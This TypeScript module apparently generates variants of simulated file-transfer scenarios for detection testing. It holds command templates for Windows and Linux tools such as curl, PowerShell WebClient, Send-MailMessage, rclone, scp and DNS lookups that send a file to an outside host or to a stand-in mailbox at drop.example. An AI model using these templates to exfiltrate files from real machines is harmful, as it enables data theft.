import type { ProgramVersion, ScenarioProcess, ScriptCommand, ScriptDeed } from '../scenario.ts'
import type { Actor, Family, Look } from './look.ts'
import { type Transfer, transferOf } from './transfer.ts'

/** A tool that can do the same, and how it is called. */
interface Substitute {
  readonly tool: string
  /** The page that says that it can. */
  readonly manual: string
  readonly protocols: readonly Transfer['protocol'][]
  readonly os: 'windows' | 'linux'
  readonly image: string
  readonly version: ProgramVersion
  readonly command: (transfer: Transfer) => string
  /** How it calls itself over HTTP, and its method; default none and POST. */
  readonly http?: { readonly userAgent: string; readonly method: string }
  /** What PowerShell runs. */
  readonly script?: (transfer: Transfer) => string
}

const CURL: ProgramVersion = {
  originalFileName: 'curl.exe',
  fileVersion: '8.4.0',
  description: 'The curl executable',
  product: 'The curl executable',
  company: 'curl, https://curl.se/',
}
const POWERSHELL: ProgramVersion = {
  originalFileName: 'PowerShell.EXE',
  fileVersion: '10.0.19041.3996 (WinBuild.160101.0800)',
  description: 'Windows PowerShell',
  product: 'Microsoft® Windows® Operating System',
  company: 'Microsoft Corporation',
}
const PUTTY: ProgramVersion = {
  originalFileName: 'PSCP',
  fileVersion: 'Release 0.81',
  description: 'Command-line SCP/SFTP client',
  product: 'PuTTY suite',
  company: 'Simon Tatham',
}
const WINSCP: ProgramVersion = {
  originalFileName: 'winscp.exe',
  fileVersion: '6.3.3.14906',
  description: 'WinSCP: SFTP, FTP, WebDAV, S3 and SCP client',
  product: 'WinSCP',
  company: 'Martin Prikryl',
}
const RCLONE: ProgramVersion = {
  originalFileName: 'rclone.exe',
  fileVersion: '1.69.1',
  description: 'Rsync for cloud storage',
  product: 'Rclone',
  company: 'https://rclone.org',
}
const windowsPart = (name: string, description: string): ProgramVersion => ({
  originalFileName: name,
  fileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
  description,
  product: 'Microsoft® Windows® Operating System',
  company: 'Microsoft Corporation',
})

const POWERSHELL_IMAGE = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const UTILITY = 'https://learn.microsoft.com/powershell/module/microsoft.powershell.utility'
const CURL_MANUAL = 'https://curl.se/docs/manpage.html'

/** Directories have no ending. */
const recursive = (path: string): string => (/\.\w{1,5}$/.test(path) ? '' : ' -r')

const mailScript = ({ host, port, file }: Transfer): string =>
  `Send-MailMessage -From 'reports@corp.example' -To 'inbox@drop.example' -Subject 'report' -SmtpServer '${host}' -Port ${port} -Attachments '${file}'`

const powershell = (
  tool: string,
  manual: string,
  protocols: Substitute['protocols'],
  script: (transfer: Transfer) => string,
  http?: Substitute['http'],
): Substitute => ({
  tool,
  manual,
  protocols,
  os: 'windows',
  image: POWERSHELL_IMAGE,
  version: POWERSHELL,
  script,
  command: (transfer) => `powershell.exe -NoProfile -Command "${script(transfer)}"`,
  ...(http === undefined ? {} : { http }),
})

const SUBSTITUTES: readonly Substitute[] = [
  {
    tool: 'curl',
    manual: CURL_MANUAL,
    protocols: ['http', 'ftp'],
    os: 'windows',
    image: 'C:\\Windows\\System32\\curl.exe',
    version: CURL,
    command: ({ file, url }) => `curl.exe -T ${file} ${url}`,
    http: { userAgent: 'curl/8.4.0', method: 'PUT' },
  },
  {
    tool: 'curl-form',
    manual: CURL_MANUAL,
    protocols: ['http'],
    os: 'windows',
    image: 'C:\\Windows\\System32\\curl.exe',
    version: CURL,
    command: ({ file, url }) => `curl.exe -F "file=@${file}" ${url}`,
    http: { userAgent: 'curl/8.4.0', method: 'POST' },
  },
  {
    tool: 'wget',
    manual: 'https://www.gnu.org/software/wget/manual/wget.html',
    protocols: ['http'],
    os: 'windows',
    image: 'C:\\Users\\Public\\wget.exe',
    version: {},
    command: ({ file, url }) => `wget.exe --post-file=${file} ${url}`,
    http: { userAgent: 'Wget/1.21.4', method: 'POST' },
  },
  powershell(
    'Invoke-WebRequest',
    `${UTILITY}/invoke-webrequest`,
    ['http'],
    ({ file, url }) => `Invoke-WebRequest -Uri '${url}' -Method Post -InFile '${file}'`,
    {
      userAgent: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3996',
      method: 'POST',
    },
  ),
  powershell(
    'WebClient',
    'https://learn.microsoft.com/dotnet/api/system.net.webclient.uploadfile',
    ['http', 'ftp'],
    ({ file, url }) => `(New-Object Net.WebClient).UploadFile('${url}', '${file}')`,
    { userAgent: '', method: 'POST' },
  ),
  powershell('Send-MailMessage', `${UTILITY}/send-mailmessage`, ['smtp'], mailScript),
  powershell(
    'SmtpClient',
    'https://learn.microsoft.com/dotnet/api/system.net.mail.smtpclient',
    ['smtp'],
    ({ host, port, file }) =>
      `$m = New-Object Net.Mail.MailMessage('reports@corp.example', 'inbox@drop.example', 'report', ''); $m.Attachments.Add('${file}'); (New-Object Net.Mail.SmtpClient('${host}', ${port})).Send($m)`,
  ),
  {
    tool: 'curl',
    manual: CURL_MANUAL,
    protocols: ['smtp'],
    os: 'windows',
    image: 'C:\\Windows\\System32\\curl.exe',
    version: CURL,
    command: ({ host, port, file }) =>
      `curl.exe smtp://${host}:${port} --mail-from reports@corp.example --mail-rcpt inbox@drop.example -T ${file}`,
  },
  powershell(
    'Resolve-DnsName',
    'https://learn.microsoft.com/powershell/module/dnsclient/resolve-dnsname',
    ['dns'],
    ({ name, type }) => `Resolve-DnsName -Name '${name}' -Type ${type}`,
  ),
  {
    tool: 'nslookup',
    manual: 'https://learn.microsoft.com/windows-server/administration/windows-commands/nslookup',
    protocols: ['dns'],
    os: 'windows',
    image: 'C:\\Windows\\System32\\nslookup.exe',
    version: windowsPart('nslookup.exe', 'nslookup'),
    command: ({ name, type }) => `nslookup.exe -type=${type} ${name}`,
  },
  {
    tool: 'ftp',
    manual: 'https://learn.microsoft.com/windows-server/administration/windows-commands/ftp',
    protocols: ['ftp'],
    os: 'windows',
    image: 'C:\\Windows\\System32\\ftp.exe',
    version: windowsPart('ftp.exe', 'File Transfer Program'),
    command: () => 'ftp.exe -n -s:C:\\Users\\Public\\u.txt',
  },
  {
    tool: 'winscp',
    manual: 'https://winscp.net/eng/docs/commandline',
    protocols: ['ssh', 'ftp'],
    os: 'windows',
    image: 'C:\\Users\\Public\\WinSCP.exe',
    version: WINSCP,
    command: ({ protocol, user, password, host, port, file }) =>
      `WinSCP.exe /command "open ${protocol === 'ssh' ? 'sftp' : 'ftp'}://${user}:${password}@${host}:${port}/" "put ${file}" "exit"`,
  },
  {
    tool: 'rclone',
    manual: 'https://rclone.org/sftp/',
    protocols: ['ssh'],
    os: 'windows',
    image: 'C:\\Users\\Public\\rclone.exe',
    version: RCLONE,
    command: ({ file, host, port, user, password }) =>
      `rclone.exe copy ${file} :sftp:inbox --sftp-host ${host} --sftp-port ${port} --sftp-user ${user} --sftp-pass ${password}`,
  },
  {
    tool: 'pscp',
    manual: 'https://the.earth.li/~sgtatham/putty/latest/htmldoc/Chapter5.html',
    protocols: ['ssh'],
    os: 'windows',
    image: 'C:\\Users\\Public\\pscp.exe',
    version: PUTTY,
    command: ({ file, host, port, user, password }) =>
      `pscp.exe -batch${recursive(file)} -P ${port} -pw ${password} ${file} ${user}@${host}:inbox/`,
  },
  {
    tool: 'scp',
    manual: 'https://man.openbsd.org/scp',
    protocols: ['ssh'],
    os: 'windows',
    image: 'C:\\Windows\\System32\\OpenSSH\\scp.exe',
    version: { fileVersion: '8.1.0.1', product: 'OpenSSH for Windows' },
    command: ({ file, host, port, user }) =>
      `scp.exe${recursive(file)} -P ${port} -i C:\\Users\\Public\\id ${file} ${user}@${host}:inbox/`,
  },
  {
    tool: 'curl',
    manual: CURL_MANUAL,
    protocols: ['http', 'ftp'],
    os: 'linux',
    image: '/usr/bin/curl',
    version: {},
    command: ({ file, url }) => `curl -T ${file} ${url}`,
    http: { userAgent: 'curl/7.88.1', method: 'PUT' },
  },
  {
    tool: 'curl-form',
    manual: CURL_MANUAL,
    protocols: ['http'],
    os: 'linux',
    image: '/usr/bin/curl',
    version: {},
    command: ({ file, url }) => `curl -F file=@${file} ${url}`,
    http: { userAgent: 'curl/7.88.1', method: 'POST' },
  },
  {
    tool: 'wget',
    manual: 'https://www.gnu.org/software/wget/manual/wget.html',
    protocols: ['http'],
    os: 'linux',
    image: '/usr/bin/wget',
    version: {},
    command: ({ file, url }) => `wget --post-file=${file} ${url}`,
    http: { userAgent: 'Wget/1.21.3', method: 'POST' },
  },
  {
    tool: 'scp',
    manual: 'https://man.openbsd.org/scp',
    protocols: ['ssh'],
    os: 'linux',
    image: '/usr/bin/scp',
    version: {},
    command: ({ file, host, port, user }) => `scp${recursive(file)} -P ${port} ${file} ${user}@${host}:inbox/`,
  },
  {
    tool: 'rclone',
    manual: 'https://rclone.org/sftp/',
    protocols: ['ssh'],
    os: 'linux',
    image: '/usr/bin/rclone',
    version: {},
    command: ({ file, host, port, user, password }) =>
      `rclone copy ${file} :sftp:inbox --sftp-host ${host} --sftp-port ${port} --sftp-user ${user} --sftp-pass ${password}`,
  },
  {
    tool: 'lftp',
    manual: 'https://lftp.yar.ru/lftp-man.html',
    protocols: ['ftp', 'ssh'],
    os: 'linux',
    image: '/usr/bin/lftp',
    version: {},
    command: ({ protocol, host, port, user, password, file }) =>
      `lftp -e 'put ${file}; bye' -u ${user},${password} ${protocol === 'ssh' ? 'sftp' : 'ftp'}://${host}:${port}`,
  },
  {
    tool: 'dig',
    manual: 'https://bind9.readthedocs.io/en/stable/manpages.html#dig-dns-lookup-utility',
    protocols: ['dns'],
    os: 'linux',
    image: '/usr/bin/dig',
    version: {},
    command: ({ name, type }) => `dig +short ${name} ${type}`,
  },
  {
    tool: 'nslookup',
    manual: 'https://manpages.debian.org/bookworm/bind9-dnsutils/nslookup.1.en.html',
    protocols: ['dns'],
    os: 'linux',
    image: '/usr/bin/nslookup',
    version: {},
    command: ({ name, type }) => `nslookup -type=${type} ${name}`,
  },
]

/** Another tool carries the same over the same protocol to the same place. */
export const otherTool: Family = (actor) => {
  const transfer = transferOf(actor)
  if (transfer === undefined) return []
  const { process } = actor
  const texts = [process.commandLine, ...process.scripts.map(({ text }) => text)].join('\n').toLowerCase()
  const isForm = actor.tool?.id === 'curl' && /\s(?:-F|--form)\b/.test(process.commandLine)
  const isOwn = ({ tool, script }: Substitute): boolean => {
    if (script !== undefined) return texts.includes(tool.toLowerCase())
    return tool === (isForm ? 'curl-form' : actor.tool?.id)
  }
  return SUBSTITUTES.filter(({ os, protocols }) => os === transfer.os && protocols.includes(transfer.protocol))
    .filter((substitute) => !isOwn(substitute))
    .map((substitute) => asDoneBy(actor, substitute, transfer))
}

function asDoneBy(actor: Actor, substitute: Substitute, transfer: Transfer): Look {
  const { process } = actor
  const script = substitute.script?.(transfer)
  const scripts: readonly ScriptDeed[] =
    script === undefined ? [] : [{ at: 300, text: script, commands: commandsIn(script) }]
  const { http } = substitute
  const { copyOf: _, ...rest } = process
  const isDns = transfer.protocol === 'dns'
  const changed: ScenarioProcess = {
    ...rest,
    isRunning: false,
    image: substitute.image,
    commandLine: substitute.command(transfer),
    version: substitute.version,
    scripts,
    // nslookup and dig ask the server themselves, PowerShell asks the resolver of the system.
    lookups: isDns
      ? process.lookups.map((lookup) => ({ ...lookup, by: script === undefined ? 'self' : 'system' }))
      : process.lookups,
    connections: process.connections
      .filter(({ service }) => !(isDns && service === 'dns' && script !== undefined))
      .map((each) =>
        each.http === undefined || http === undefined ? each : { ...each, http: { ...each.http, ...http } },
      ),
  }
  return { title: `by ${substitute.tool}`, process: changed }
}

/** What module logging tells of a script of one cmdlet with named parameters, or of one that makes objects. */
function commandsIn(script: string): readonly ScriptCommand[] {
  const objects = [...script.matchAll(/New-Object ([\w.]+)/g)]
  if (objects.length > 0) {
    return objects.map(([, type = '']) => ({ name: 'New-Object', parameters: { TypeName: type } }))
  }
  const [name = ''] = script.split(' ')
  const parameters = [...script.matchAll(/ -(\w+) (?:'([^']*)'|(\S+))/g)]
  return [
    { name, parameters: Object.fromEntries(parameters.map(([, key = '', text, word]) => [key, text ?? word ?? ''])) },
  ]
}
